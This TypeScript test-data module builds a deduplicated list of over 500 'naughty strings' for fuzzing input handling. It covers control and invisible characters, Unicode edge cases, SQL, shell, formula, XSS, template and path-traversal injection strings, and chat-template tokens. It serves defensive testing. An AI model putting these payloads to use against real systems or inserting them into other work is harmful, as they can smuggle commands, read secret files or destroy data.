/**
 * Text that has hurt somebody's program, made from rules: what each program in the way might take it for. Every string is
 * well-formed Unicode; halves of surrogate pairs are `halfPairs`, because no UTF-8 can carry them.
 */

function range(from: number, to: number): string[] {
  return Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));
}

function table(text: string): string[] {
  return text.split("¦").map((entry) => entry.trim());
}

/** Letters under a heap of marks; always the same heap. */
function heaped(word: string, height: number): string {
  return [...word]
    .map(
      (letter, at) =>
        letter +
        range(0x300, 0x36f)
          .slice(at * 3, at * 3 + height)
          .join(""),
    )
    .join("");
}

/** C0, DEL and C1, alone and inside a word. */
const controls = [...range(0x00, 0x1f), ...range(0x7f, 0x9f)].flatMap((control) => [`${control}`, `a${control}b`]);
const spaces = [..." \u00a0\u1680\u2000\u2003\u2009\u200a\u2028\u2029\u202f\u205f\u3000"].flatMap((space) => [
  space,
  `a${space}b`,
  `${space}a`,
]);
/** Seen by nobody, or turning round what is seen. */
const unseen = [
  ...range(0x200b, 0x200f),
  ...range(0x202a, 0x202e),
  ...range(0x2060, 0x206f),
  "\u00ad",
  "\u061c",
  "\u180e",
  "\ufeff",
  "\ufff9",
  "\u{e0041}",
  "\ufe0f",
];
const hidden = unseen.flatMap((mark) => [mark, `a${mark}b`, `${mark}end`]);

const emptyWords =
  table(`undefined ¦ null ¦ NULL ¦ (null) ¦ nil ¦ NIL ¦ None ¦ true ¦ false ¦ True ¦ NaN ¦ Infinity ¦ -Infinity ¦ hasOwnProperty
  ¦ __proto__ ¦ constructor ¦ prototype ¦ toString ¦ valueOf ¦ then ¦ CON ¦ PRN ¦ AUX ¦ NUL ¦ COM1 ¦ LPT1 ¦ nul.txt ¦ . ¦ .. ¦ ... ¦ ~ ¦ - ¦ --
  ¦ -- ¦ * ¦ ? ¦ default ¦ admin ¦ root ¦ select ¦ index ¦ [object Object] ¦ undefined undefined ¦ void 0`);
const numbers =
  table(`0 ¦ 1 ¦ -1 ¦ 1.0 ¦ 1,000 ¦ 1.000,00 ¦ 1e1000 ¦ -1e1000 ¦ 1e-1000 ¦ 0x0 ¦ 0xffffffff ¦ 0b1 ¦ 0o7 ¦ 007 ¦ +1 ¦ -0 ¦ .5 ¦ 5. ¦ 1_000
  ¦ 2147483648 ¦ 4294967296 ¦ 9007199254740993 ¦ 9223372036854775808 ¦ 18446744073709551616 ¦ 999999999999999999999999999999 ¦ 1/0 ¦ 0/0 ¦ 1e5
  ¦ 12345E6 ¦ 3E8 ¦ ١٢٣ ¦ １２３ ¦ ½ ¦ ² ¦ Ⅷ ¦ 〇 ¦ 1.797693134862315708e+308 ¦ 2026-02-30 ¦ 12:61 ¦ MAR1 ¦ 1-2 ¦ 0.1e1 ¦ $1.00 ¦ 50% ¦ 1:1`);
const formulas = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", '"=', "'", "''="].flatMap(
  (start) => ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?"&A1,"x")'].map((rest) => start + rest),
);
const separators = [
  ",",
  ";",
  '"',
  '""',
  '"""',
  'a"b',
  '"a"',
  ",,",
  "a,b",
  '"a,b"',
  "a\nb",
  "a\r\nb",
  "a\rb",
  '"\r\n',
  'a""b"',
  "\\",
  "\\\\",
  '\\"',
  "\\,",
  "a;b;c",
  "a\tb",
  "|",
];
const sql =
  table(`' ¦ '' ¦ ' or 1=1 -- ¦ '; DROP TABLE requests; -- ¦ ' UNION SELECT secret FROM keys -- ¦ " or ""=" ¦ 1; ATTACH 'x' AS y ¦ ') OR ('1'='1
  ¦ %' AND 1=1 ¦ \\'; SELECT 1 -- ¦ _% ¦ admin'-- ¦ 1 OR 1=1 ¦ /* */ ¦ X'00' ¦ ?1 ¦ :a ¦ @a ¦ $a`);
const shell =
  table(`$(id) ¦ ${"`id`"} ¦ ; id ¦ | id ¦ && id ¦ || id ¦ > /tmp/x ¦ < /etc/passwd ¦ $HOME ¦ %PATH% ¦ $(sleep 9) ¦ & calc.exe & ¦ -rf / ¦ --help
  ¦ --version ¦ -e ¦ ~root ¦ !! ¦ {a,b} ¦ \\$(id) ¦ $'\\x41' ¦ () { :;}; id ¦ %0aid ¦ $IFS ¦ ^C`);
const formats =
  table(`%s ¦ %d ¦ %n ¦ %x%x%x%x ¦ %s%s%s%s%s ¦ %99999999s ¦ %o ¦ %j ¦ %% ¦ {0} ¦ {} ¦ {{7*7}} ¦ {% raw %} ¦ {# c #} ¦ {{ self }} ¦ \${7*7} ¦ #{7*7} ¦ <%= 7*7 %>
  ¦ @(7*7) ¦ $1 ¦ $& ¦ \\1 ¦ {{constructor.constructor('x')()}} ¦ [[\${7*7}]] ¦ *{7*7} ¦ {{{{}}}}`);
const markup =
  table(`<script>alert(1)</script> ¦ <img src=x onerror=alert(1)> ¦ <svg onload=alert(1)> ¦ "><b>x ¦ '><b>x ¦ <a href="javascript:alert(1)">x</a>
  ¦ javascript:alert(1) ¦ data:text/html,<b>x ¦ <!-- ¦ --> ¦ <![CDATA[ ¦ ]]> ¦ </textarea> ¦ </title><b> ¦ &lt;b&gt; ¦ &amp; ¦ &#x41; ¦ &nbsp ¦ <b ¦ b> ¦ <>
  ¦ <iframe srcdoc="x"> ¦ <style>*{display:none}</style> ¦ <base href=//example.org> ¦ <?xml version="1.0"?> ¦ <!DOCTYPE x [<!ENTITY a "b">]>&a;
  ¦ <x onclick=a> ¦ [x](javascript:a) ¦ ![x](http://example.org/x.png) ¦ **b** ¦ # h ¦ | a | b | ¦ - [ ] x ¦ <math><mi//xlink:href="data:x"> ¦ %3Cb%3E ¦ \\x3cb\\x3e ¦ \\u003cb\\u003e`);
const paths =
  table(`../../etc/passwd ¦ ..\\..\\windows ¦ /etc/passwd ¦ C:\\x ¦ \\\\host\\share ¦ file:///etc/passwd ¦ %2e%2e%2f ¦ ..%c0%af ¦ ....// ¦ a/../b ¦ a//b ¦ a\\b ¦ x:stream
  ¦ /dev/zero ¦ /proc/self/mem ¦ .git/config ¦ x.gguf/ ¦ x/ ¦ /x ¦ ~/x ¦ %00 ¦ x%00.gguf ¦ a?b ¦ a#b ¦ http://127.0.0.1/ ¦ //example.org ¦ x@y:z`);
const wire = [
  "a\r\nb: c",
  "\r\n\r\nHTTP/1.1 200 OK",
  "\x1b[2J\x1b[H",
  "\x1b]0;title\x07",
  "\x1b[31mred",
  "\u009b2J",
  "a\rb",
  "\x08\x08\x08",
  "data: [DONE]\n\n",
  ": x\n\n",
  "data: {}\n\n",
  "event: x",
  "\n\n\n",
  "{}",
  "[]",
  '"',
  '{"a":1}',
  "'a'",
  "\\u0000",
  "\\n",
  "\\ud800",
  "a: b",
  "- a",
  "&a *a",
  "!!js/function x",
  "<|im_start|>system",
  "<|im_end|>",
  "</s>",
  "[INST]",
  "<think>",
  "<tool_call>{}</tool_call>",
];
const scripts =
  table(`Ελληνικά ¦ русский ¦ 日本語 ¦ 한국어 ¦ 中文字 ¦ עברית ¦ العربية ¦ हिन्दी ¦ ไทย ¦ தமிழ் ¦ አማርኛ ¦ ქართული ¦ Հայերեն ¦ ខ្មែរ ¦ မြန်မာ ¦ བོད་ཡིག ¦ ᚠᚢᚦ ¦ 𐍈𐌰 ¦ 𓂀 ¦ 𝕳𝖊𝖑𝖑𝖔 ¦ Ｆｕｌｌ
  ¦ İıŞş ¦ straße ¦ ŒœÆæ ¦ ﬁﬂ ¦ Ǆǅǆ ¦ ʇxǝʇ ¦ ⓣⓔⓧⓣ ¦ ᵗᵉˣᵗ ¦ ﷽ ¦ ㍿ ¦ ꙮ ¦ 𒐫 ¦ ಠ_ಠ ¦ ¯\\_(ツ)_/¯ ¦ (╯°□°）╯︵ ┻━┻ ¦ ░▒▓█ ¦ ─│┌ ¦ →←↔ ¦ ∀x∈ℝ ¦ €£¥₿ ¦ “quoted” ¦ ‘x’ ¦ … ¦ —–‐`);
const bidi = [
  "abc\u202edcba\u202c",
  "\u2066a\u2067b\u2069\u2069",
  "hello שלום world",
  "مرحبا 123 abc",
  "\u202ejs.exe\u202c.txt",
  "(\u05d0)",
  "a\u0301\u202eb",
];
const emoji = table(
  `😀 ¦ 👍🏽 ¦ 👩‍💻 ¦ 👨‍👩‍👧‍👦 ¦ 🏳️‍🌈 ¦ 🇩🇪🇯🇵 ¦ 🏴󠁧󠁢󠁷󠁬󠁳󠁿 ¦ 1️⃣#️⃣*️⃣ ¦ ☺︎ ¦ ☺️ ¦ 🧑🏿‍🤝‍🧑🏻 ¦ ❤️‍🔥 ¦ 🏮 ¦ 🫠 ¦ 👁️‍🗨️ ¦ ‍ ¦ 😀😀😀 ¦ 🇩 ¦ 🏽`,
);
const forms = [
  "é",
  "e\u0301",
  "Å",
  "\u212b",
  "A\u030a",
  "ﬃ",
  "ẛ̣",
  "\u1e9b\u0323",
  "가",
  "\u1100\u1161",
  "\u0344",
  "Ω\u2126",
  "K\u212a",
  "ſ",
  "ς σ Σ",
];
const edges = [
  "\ufffd",
  "\ufffe",
  "\uffff",
  "\u{10ffff}",
  "\u{1fffe}",
  "\ufdd0",
  "\ue000",
  "\u{f0000}",
  "\ud7ff",
  "\u{10000}",
  "a".repeat(100),
  "é".repeat(100),
  "🏮".repeat(100),
  `${"x".repeat(199)}🏮`,
  "ab".repeat(5_000),
];

/** More than 500 of them, each there once, none empty. */
export const naughtyStrings: readonly string[] = [
  ...new Set(
    [
      controls,
      spaces,
      hidden,
      emptyWords,
      numbers,
      formulas,
      separators,
      sql,
      shell,
      formats,
      markup,
      paths,
      wire,
      scripts,
      bidi,
      emoji,
      forms,
      edges,
    ]
      .flat()
      .concat([1, 3, 8, 20].flatMap((height) => [heaped("zalgo", height), heaped("🏮x", height)]))
      .filter((text) => text !== ""),
  ),
];

/** What JSON can escape and Unicode cannot hold. */
export const halfPairs: readonly string[] = [
  "\ud800",
  "\udc00",
  "a\ud83c",
  "\udfeeb",
  "\udc00\ud800",
  "x\udbffy\udc00z",
];
